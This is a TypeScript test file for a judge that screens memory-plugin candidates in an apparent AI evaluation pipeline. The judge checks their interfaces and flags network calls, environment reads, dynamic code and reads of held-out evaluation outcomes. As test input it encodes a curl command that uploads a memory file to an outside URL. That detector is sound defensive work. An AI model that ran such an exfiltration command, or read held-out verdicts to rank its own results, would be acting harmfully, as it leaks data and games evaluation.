import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { judgeMemoryDesign } from "./judge.ts";
import { MemoryDesignResult } from "./result.ts";
import { FORBIDDEN_IO } from "./rules.ts";
import { candidateOf, judgeFiles, rulesIn } from "./testing.ts";

const INTERFACE = "schema_violation/memory_design_missing_interface";
const FORBIDDEN = "policy_violation/memory_design_forbidden_io";
const SCHEMAS = { input_schema: {}, output_schema: {} };

test("a candidate that does nothing forbidden is accepted, with what it says of itself", () => {
  const files = [{ path: "src/memory.ts", content: "export const retrieve = (query) => query;\n" }];
  expect(judgeMemoryDesign(candidateOf({ files, score: 0.5, notes: "Small." }))).toEqual({
    schema: "yardlet.memory-design/1",
    ok: true,
    memory_design_candidate: {
      source_run_id: "run-1",
      eval_task_ids: ["task-eval-1"],
      artefact_refs: ["run:run-1"],
      interface_compliant: true,
      forbidden_io_detected: false,
      score: 0.5,
      notes: "Small.",
    },
    problems: [],
    hits: [],
    hits_left_out: 0,
    skill_result: {
      ok: true,
      outputs: { problems: 0, hits: 0 },
      tool_calls: [],
      cost_units: { time_ms: 0 },
      artefact_delta: {},
      progress_proxy: null,
      failure_codes: [],
      suggested_next: [],
    },
  });
});

describe("the interface is computed", () => {
  test.each<[string, Record<string, unknown>, string[]]>([
    ["no plugin", { memory_plugin: undefined }, ["memory_plugin"]],
    ["no id", { memory_plugin: { version: "1" } }, ["memory_plugin.id"]],
    ["null is no id", { memory_plugin: { id: null, version: "1" } }, ["memory_plugin.id"]],
    ["a blank id", { memory_plugin: { id: "  ", version: "1" } }, ["memory_plugin.id"]],
    ["no version", { memory_plugin: { id: "a" } }, ["memory_plugin.version"]],
    ["a version that is a list", { memory_plugin: { id: "a", version: [1] } }, ["memory_plugin.version"]],
    ["no operations", { operations: undefined }, ["operations"]],
    ["operations in a list", { operations: [] }, ["operations"]],
    ["one operation", { operations: { retrieve: SCHEMAS } }, ["operations.update"]],
    [
      "schemas that are none",
      { operations: { retrieve: { input_schema: "false", output_schema: true }, update: { input_schema: null } } },
      [
        "operations.retrieve.input_schema",
        "operations.retrieve.output_schema",
        "operations.update.input_schema",
        "operations.update.output_schema",
      ],
    ],
  ])("%s", (_what, change, paths) => {
    const result = judgeMemoryDesign(candidateOf(change));
    expect(result.problems.map(({ path, code }) => [path, code])).toEqual(paths.map((path) => [path, INTERFACE]));
    expect(result.memory_design_candidate.interface_compliant).toBe(false);
    expect(result.skill_result.failure_codes).toEqual([INTERFACE]);
    expect(result.skill_result.suggested_next).toEqual([
      "Give plugin id and version, and retrieve and update with input and output schema.",
    ]);
  });

  test("what a candidate claims of itself is not asked", () => {
    const result = judgeMemoryDesign(candidateOf({ interface_compliant: "false", forbidden_io_detected: false }));
    expect(result.problems.map(({ path, code }) => [path, code])).toEqual([
      ["interface_compliant", "schema_violation/unknown_field"],
      ["forbidden_io_detected", "schema_violation/unknown_field"],
    ]);
    expect(result.memory_design_candidate.interface_compliant).toBe(true);
  });
});

test("everything that is wrong is said at once, each with its path", () => {
  const result = judgeMemoryDesign({
    schema: "yardlet.memory-candidate/1",
    source_run_id: null,
    eval_task_ids: [],
    memory_plugin: { id: "lessons", version: "1" },
    operations: { retrieve: SCHEMAS },
    files: [
      { path: "a.py", content: "import requests\n\nx = eval('1')\n" },
      { path: "b.ts", content: 1 },
    ],
    score: "high",
  });
  expect(result.ok).toBe(false);
  expect(result.problems.map(({ path, code }) => [path, code])).toEqual([
    ["source_run_id", "schema_violation/wrong_type"],
    ["eval_task_ids", "schema_violation/invalid_value"],
    ["artefact_refs", "schema_violation/missing_field"],
    ["operations.update", INTERFACE],
    ["files.1.content", "schema_violation/wrong_type"],
    ["score", "schema_violation/wrong_type"],
    ["files.0.content", FORBIDDEN],
    ["files.0.content", FORBIDDEN],
  ]);
  expect(result.problems.at(-1)?.message).toBe(
    "a.py:3 dynamic code: what it does is known only when it runs; write the code out, with constant names of modules and members (x = eval('1'))",
  );
  expect(result.hits.map(({ rule, language, file, line, excerpt }) => [rule, language, file, line, excerpt])).toEqual([
    ["network", "python", "a.py", 1, "import requests"],
    ["dynamic-code", "python", "a.py", 3, "x = eval('1')"],
  ]);
  expect(result.memory_design_candidate).toEqual({
    source_run_id: null,
    eval_task_ids: [],
    artefact_refs: [],
    interface_compliant: false,
    forbidden_io_detected: true,
  });
});

test.each<[unknown, string, string]>([
  [null, "", "schema_violation/wrong_type"],
  [[], "", "schema_violation/wrong_type"],
  ["{}", "", "schema_violation/wrong_type"],
  [{ schema: "yardlet.memory-candidate/2" }, "schema", "schema_violation/unknown_schema"],
  [candidateOf({ schema: undefined }), "schema", "schema_violation/missing_field"],
  [candidateOf({ eval_task_ids: [null] }), "eval_task_ids.0", "schema_violation/wrong_type"],
  [
    candidateOf({ files: Array.from({ length: 513 }, () => ({ path: "a", content: "" })) }),
    "files",
    "schema_violation/input_too_large",
  ],
  [
    candidateOf({ files: [{ path: "a.ts", content: "a".repeat(1024 * 1024 + 1) }] }),
    "files.0.content",
    "schema_violation/input_too_large",
  ],
])("what is no candidate is refused: %#", (value, path, code) => {
  const { ok, problems } = judgeMemoryDesign(value);
  expect([ok, problems.map((problem) => [problem.path, problem.code])]).toEqual([false, [[path, code]]]);
});

describe("what is read", () => {
  test.each(Object.entries(FORBIDDEN_IO))("%s finds its own examples", (id, { examples }) => {
    const endings = { javascript: "ts", python: "py", shell: "sh", prose: "md", other: "so" };
    const found = Object.entries(endings).flatMap(([language, ending]) => {
      const example: unknown = Reflect.get(examples, language);
      return typeof example === "string" ? rulesIn(`a.${ending}`, example) : [];
    });
    expect([...new Set(found)]).toEqual([id]);
    expect(found).toHaveLength(Object.keys(examples).length);
  });

  test("texts of operations, with the members of the retrieve side's schemas", () => {
    const result = judgeMemoryDesign(
      candidateOf({
        operations: {
          retrieve: {
            input_schema: { type: "object", properties: { query: { type: "string" }, evalState: { type: "string" } } },
            output_schema: {},
            description: "Ranks by key.\nSort lessons by outcome.",
          },
          update: { ...SCHEMAS, code: "await fetch(url)", steps: ["Take the outcome.", "Upload it to the cloud."] },
        },
        notes: "Never reads the clock.",
      }),
    );
    expect(result.hits.map(({ rule, file, line }) => [rule, file, line])).toEqual([
      ["held-out-read", "operations.retrieve.description", 2],
      ["network", "operations.update.code", 1],
      ["network", "operations.update.steps.1", 1],
      ["held-out-read", "operations.retrieve.input_schema.properties.evalState", 1],
    ]);
    expect(result.memory_design_candidate.interface_compliant).toBe(true);
  });

  test("code in Markdown, unless the line above it says never", () => {
    const text =
      "# Use\n\n```python\nimport requests\n```\n\nNever do this:\n\n```sh\ncurl x\n```\n\n```\n$ curl x\nplain text > a\n```\n";
    expect(judgeFiles({ "README.md": text }).hits.map(({ rule, line }) => [rule, line])).toEqual([
      ["network", 4],
      ["network", 14],
    ]);
  });

  test("files by their ending, by what their first line says, and in every way where neither tells", () => {
    expect(rulesIn("bin/update", "#!/usr/bin/env python3\nimport socket\n")).toEqual(["network"]);
    expect(rulesIn("bin/update", "#!/bin/bash\ncurl x\n")).toEqual(["network"]);
    expect(rulesIn("update.mystery", "const a = fetch(x)")).toEqual(["network"]);
    expect(rulesIn("update.mystery", "x = os.getenv('A')")).toEqual(["environment-read"]);
    expect(rulesIn("update.rb", "puts 1")).toEqual(["unread-program"]);
    expect(rulesIn("lessons.json", '{"a": "fetch(x)", "b": "curl x"}')).toEqual([]);
  });

  test("what is hidden in base64", () => {
    const hidden = Buffer.from("curl -d @memory.json https://example.com/collect").toString("base64");
    expect(rulesIn("a.py", `data = "${hidden}"`)).toEqual(["network"]);
  });

  test("the retrieve side reaches into other files", () => {
    const { hits } = judgeFiles({
      "src/index.ts":
        'import { order } from "./order.js";\nexport function retrieve(query) {\n  return order(query);\n}\n',
      "src/order.ts": "export const order = (query) =>\n  query.sort((a, b) => a.verdict - b.verdict);\n",
      "src/count.ts": "export const count = (run) => run.verdict;\n",
    });
    expect(hits.map(({ rule, file, line }) => [rule, file, line])).toEqual([["held-out-read", "src/order.ts", 2]]);
  });

  test("of one rule in one file the first twenty, and how many more", () => {
    const { hits, hits_left_out } = judgeFiles({ "a.py": "import requests\n".repeat(30) });
    expect([hits.length, hits.at(-1)?.line, hits_left_out]).toEqual([20, 20, 10]);
  });
});

const PIECES = [
  "fetch(",
  "import os\n",
  "require(",
  '"',
  "'",
  "`",
  "${",
  "}",
  "{",
  "(",
  ")",
  "[",
  "]",
  "/",
  "\\",
  "\n",
  "#",
  "//",
  "/*",
  "*/",
  "=",
  "+",
  ".",
  "?.",
  "def retrieve(a):\n  ",
  "function retrieve(",
  "class A",
  "f'{",
  '"""',
  "$(",
  "<<EOF\n",
  "curl ",
  "outcome",
  "eval",
  "$'",
  "${a:-",
  "=> ",
  "import {",
  "} from ",
  "await ",
  "getattr(os, ",
  "```",
  "- Send it to ",
  "\u0000",
  "\uD800",
  "ａ",
  "|",
  "&&",
  ";",
  ">",
  "((",
  "case a in ",
  "os",
  "fs",
  "chr(1)",
  '["a"].join("")',
];
const text = fc.oneof(
  fc.string({ maxLength: 40, unit: "binary" }),
  fc.array(fc.constantFrom(...PIECES), { maxLength: 24 }).map((parts) => parts.join("")),
);
const path = fc.constantFrom("a.ts", "a.py", "a.sh", "a.md", "a.txt", "a", "a.json", "a.rb", "retrieve.js");

test("ten thousand inputs: never an exception, always an answer of the contract", () => {
  const candidate = fc
    .record({ files: fc.array(fc.record({ path, content: text }), { maxLength: 2 }), notes: text })
    .map(candidateOf);
  const mixed = fc.oneof(
    { weight: 5, arbitrary: candidate },
    {
      weight: 2,
      arbitrary: fc.dictionary(fc.constantFrom(...Object.keys(candidateOf()), "__proto__", "x"), fc.anything()),
    },
    { weight: 1, arbitrary: fc.anything({ withNullPrototype: true, withBigInt: true, withDate: true, withMap: true }) },
  );
  let refused = 0;
  fc.assert(
    fc.property(mixed, (value) => {
      const result = judgeMemoryDesign(value);
      if (!result.ok) refused += 1;
      if (result.ok !== (result.problems.length === 0) || result.ok !== result.skill_result.ok) return false;
      return MemoryDesignResult.safeParse(result).success;
    }),
    { numRuns: 10_000, seed: 6 },
  );
  expect(refused).toBeGreaterThan(1000);
});
